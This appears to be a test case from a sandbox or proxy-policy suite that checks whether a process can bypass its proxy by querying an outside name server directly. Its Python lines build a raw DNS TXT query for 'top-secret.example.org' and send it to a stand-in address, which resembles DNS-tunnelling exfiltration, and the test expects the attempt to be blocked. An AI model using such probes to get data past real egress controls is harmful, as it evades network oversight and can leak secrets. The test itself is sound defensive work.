# what: behind the proxy: ask a name server of its own
# expect: blocked
# policy: proxy
# record: connection_attempted Denied
# record: name_resolved Denied
question = b'\x12\x34\1\0\0\1\0\0\0\0\0\0\x0atop-secret\7example\3org\0\0\x10\0\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('192.0.2.53', 53))
escaped('asked')
